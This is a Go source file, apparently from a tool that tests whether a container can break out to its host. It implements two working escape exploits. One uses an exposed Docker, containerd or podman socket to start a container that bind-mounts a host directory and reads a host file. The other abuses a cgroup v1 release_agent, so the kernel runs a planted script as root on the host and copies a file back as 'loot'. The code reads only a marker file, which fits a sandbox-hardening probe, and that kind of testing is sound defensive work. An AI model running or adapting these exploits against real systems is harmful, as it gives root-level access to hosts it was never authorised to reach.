package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// Where engines listen. A container that reaches one of them starts another container with the host's disk in it.
var engineSockets = []string{
	"/var/run/docker.sock",
	"/run/docker.sock",
	"/run/appengine/docker.sock",
	"/run/containerd/containerd.sock",
	"/run/podman/podman.sock",
}

// takeEngineOver reads a file of the host, through a container that it tells the engine to start there.
func takeEngineOver(flags *flag.FlagSet, args []string) (verdict, error) {
	engine := flags.String("engine", "", "")
	image := flags.String("image", "", "")
	directory := flags.String("directory", "", "")
	if err := parse(flags, args); err != nil {
		return verdict{}, err
	}
	address := *engine
	if address == "" {
		found, err := findSocket()
		if err != nil {
			return stopped("looking for the socket of an engine", err)
		}
		address = "unix://" + found
	}
	client, err := engineAt(address)
	if err != nil {
		return verdict{}, err
	}
	content, err := client.readOnHost(*image, *directory)
	if err != nil {
		return stopped("asking the engine for a container", err)
	}
	return succeeded("the engine started a container that read the host's file: %s", content)
}

func findSocket() (string, error) {
	var last error
	for _, socket := range engineSockets {
		if _, err := os.Stat(socket); err == nil {
			return socket, nil
		} else {
			last = err
		}
	}
	return "", last
}

// engineClient speaks the engine's API.
type engineClient struct{ http http.Client }

func engineAt(address string) (engineClient, error) {
	parsed, err := url.Parse(address)
	if err != nil {
		return engineClient{}, usageError{err}
	}
	network, target := "tcp", parsed.Host
	if parsed.Scheme == "unix" {
		network, target = "unix", parsed.Path
	}
	dial := func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{Timeout: patience}).DialContext(ctx, network, target)
	}
	return engineClient{http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: dial}}}, nil
}

func (c engineClient) readOnHost(image, directory string) (string, error) {
	var created struct{ Id string }
	err := c.call(http.MethodPost, "/containers/create", map[string]any{
		"Image": image,
		"Cmd":   []string{"read", "--file", "/host/marker"},
		"HostConfig": map[string]any{
			"Binds":       []string{directory + ":/host:ro"},
			"NetworkMode": "none",
			"UsernsMode":  "host",
		},
	}, &created)
	if err != nil {
		return "", err
	}
	container := "/containers/" + created.Id
	defer c.call(http.MethodDelete, container+"?force=true", nil, nil)
	if err := c.call(http.MethodPost, container+"/start", nil, nil); err != nil {
		return "", err
	}
	if err := c.call(http.MethodPost, container+"/wait", nil, nil); err != nil {
		return "", err
	}
	output, err := c.text(container + "/logs?stdout=true")
	if err != nil {
		return "", err
	}
	_, content, found := strings.Cut(output, ": ")
	_, content, alsoFound := strings.Cut(content, ": ")
	if !found || !alsoFound {
		return "", fmt.Errorf("the container printed %q", output)
	}
	return strings.TrimSpace(content), nil
}

func (c engineClient) call(method, path string, body, answer any) error {
	encoded, err := json.Marshal(body)
	if err != nil {
		return err
	}
	request, err := http.NewRequest(method, "http://engine"+path, bytes.NewReader(encoded))
	if err != nil {
		return err
	}
	request.Header.Set("Content-Type", "application/json")
	response, err := c.http.Do(request)
	if err != nil {
		return err
	}
	defer response.Body.Close()
	content, err := io.ReadAll(response.Body)
	if err != nil {
		return err
	}
	if response.StatusCode >= http.StatusBadRequest {
		return fmt.Errorf("%s %s: status %d, %s", method, path, response.StatusCode, firstLine(content))
	}
	if answer == nil {
		return nil
	}
	return json.Unmarshal(content, answer)
}

// text of a container's log: each chunk has a header of eight bytes.
func (c engineClient) text(path string) (string, error) {
	response, err := c.http.Get("http://engine" + path)
	if err != nil {
		return "", err
	}
	defer response.Body.Close()
	content, err := io.ReadAll(response.Body)
	if err != nil || len(content) < 8 {
		return "", errors.Join(err, fmt.Errorf("a log of %d bytes", len(content)))
	}
	return string(content[8:]), nil
}

const hierarchy, hierarchyName = "/tmp/attack-cgroup", "name=appengine-attack"

func mountHierarchy() error {
	return syscall.Mount("attack", hierarchy, "cgroup", 0, "none,"+hierarchyName)
}

// removeHierarchy makes the kernel forget the hierarchy, which it keeps at an unmount as long as it has not let go of a group that was in it.
func removeHierarchy() {
	for range 50 {
		syscall.Unmount(hierarchy, 0)
		time.Sleep(100 * time.Millisecond)
		if own, err := os.ReadFile("/proc/self/cgroup"); err != nil || !strings.Contains(string(own), hierarchyName) || mountHierarchy() != nil {
			return
		}
	}
}

// escapeByReleaseAgent lets the kernel run a script as root on the host: a cgroup hierarchy of its own names the script, and the kernel starts it in
// the host's namespaces when the last process of a group ends.
func escapeByReleaseAgent(flags *flag.FlagSet, args []string) (verdict, error) {
	marker := flags.String("marker", "", "")
	if err := parse(flags, args); err != nil {
		return verdict{}, err
	}
	const script, loot = "/tmp/attack-script", "/tmp/attack-loot"
	if err := os.MkdirAll(hierarchy, 0o755); err != nil {
		return stopped("creating a mount point", err)
	}
	defer os.Remove(hierarchy)
	if err := mountHierarchy(); err != nil {
		return stopped("mount(cgroup)", err)
	}
	defer removeHierarchy()
	layer, err := writableLayer()
	if err != nil {
		return verdict{}, err
	}
	content := fmt.Sprintf("#!/bin/sh\ncat %s > %s\n", *marker, filepath.Join(layer, loot))
	if err := os.WriteFile(script, []byte(content), 0o755); err != nil {
		return stopped("writing a script", err)
	}
	// A file that is there from the beginning: the container would not see one that the host adds below its root.
	if err := os.WriteFile(loot, nil, 0o644); err != nil {
		return stopped("creating a file", err)
	}
	defer os.Remove(script)
	defer os.Remove(loot)
	group := filepath.Join(hierarchy, "group")
	if err := os.Mkdir(group, 0o755); err != nil {
		return stopped("creating a cgroup", err)
	}
	defer os.Remove(group)
	for _, setting := range []struct{ file, value string }{
		{filepath.Join(hierarchy, "release_agent"), filepath.Join(layer, script)},
		{filepath.Join(group, "notify_on_release"), "1"},
	} {
		if err := os.WriteFile(setting.file, []byte(setting.value), 0); err != nil {
			return stopped("writing "+filepath.Base(setting.file), err)
		}
	}
	if err := leaveEmpty(group); err != nil {
		return stopped("moving a process into a cgroup", err)
	}
	for range 50 {
		if stolen, err := os.ReadFile(loot); err == nil && len(stolen) > 0 {
			return succeeded("the kernel ran a script as root on the host that read: %s", firstLine(stolen))
		}
		time.Sleep(100 * time.Millisecond)
	}
	return stopped("waiting for the kernel to run the script", errTimeout)
}

// leaveEmpty puts a process into a cgroup, and ends it.
func leaveEmpty(group string) error {
	sleep := syscall.Timespec{Sec: 10}
	pid, _, errno := forkAndSleep(&sleep)
	if errno != 0 {
		return errno
	}
	moved := os.WriteFile(filepath.Join(group, "cgroup.procs"), fmt.Append(nil, pid), 0)
	killed := syscall.Kill(int(pid), syscall.SIGKILL)
	_, waited := syscall.Wait4(int(pid), nil, 0, nil)
	return errors.Join(moved, killed, waited)
}

// writableLayer is where the host sees the files of this container.
func writableLayer() (string, error) {
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return "", err
	}
	_, rest, found := strings.Cut(string(mounts), "upperdir=")
	layer, _, _ := strings.Cut(rest, ",")
	if !found || !strings.HasPrefix(layer, "/") {
		return "", errors.New("the root file system is not an overlay")
	}
	return layer, nil
}
